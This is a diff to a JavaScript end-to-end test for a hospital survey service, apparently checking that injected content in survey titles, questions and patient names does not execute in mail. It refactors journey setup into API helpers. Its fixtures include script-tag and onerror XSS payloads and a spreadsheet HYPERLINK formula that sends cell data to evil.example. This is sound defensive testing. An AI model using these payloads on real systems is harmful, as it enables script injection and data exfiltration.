@@ -23,7 +23,6 @@ const SHORT_ATTACK = `</title><script>${MARK}</script><img src=x onerror=${MARK}
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
 
 const templates = "/api/surveys/templates/";
-const journeys = "/api/journeys/templates/";
 
 const title = { ar: `Survey ${SHORT_ATTACK}`, en: `Survey ${SHORT_ATTACK}` };
 const text = (name) => ({ ar: `${name} ${ATTACK}`, en: `${name} ${ATTACK}` });
@@ -86,29 +85,13 @@ describe("what somebody wrote", () => {
     const content = { ...draft.content, title, introduction: text("Why"), questions: QUESTIONS };
     await api.put("admin", `${templates}${survey}/`, { lock_version: draft.lock_version, content });
     await api.post("admin", `${templates}${survey}/publish/`, { lock_version: draft.lock_version + 1 });
-    journey = await sendFrom(survey);
+    journey = await api.sendFrom(HOSPITAL, survey);
     invited = await api.invite({ hospital: HOSPITAL, patient: { name_ar: SHORT_ATTACK, name_en: SHORT_ATTACK } });
   });
 
   after(async () => {
-    if (!journey) return;
-    const { lock_version } = await api.get("admin", `${journeys}${journey}/`);
-    await api.post("admin", `${journeys}${journey}/retire/`, { lock_version });
+    if (journey) await api.retireJourney(journey);
   });
-
-  /** The visits of one hospital send this survey. */
-  async function sendFrom(survey) {
-    const { hospitals } = await api.get("admin", journeys);
-    const { id: hospital_id } = hospitals.find(({ code }) => code === HOSPITAL);
-    await api.create("admin", journeys, { journey_type: "opd", hospital_id });
-    const { items } = await api.get("admin", journeys);
-    const { id } = items.find((row) => row.hospital_id === hospital_id && row.state === "draft" && row.journey_type === "opd");
-    const { body, lock_version } = await api.get("admin", `${journeys}${id}/`);
-    for (const stage of body.stages) if (stage.survey_template_id) stage.survey_template_id = survey;
-    await api.put("admin", `${journeys}${id}/`, { lock_version, body });
-    await api.post("admin", `${journeys}${id}/publish/`, { lock_version: lock_version + 1 });
-    return id;
-  }
 
   it("does not run in the mail", () =>
     browser.visit({}, async ({ page }) => {
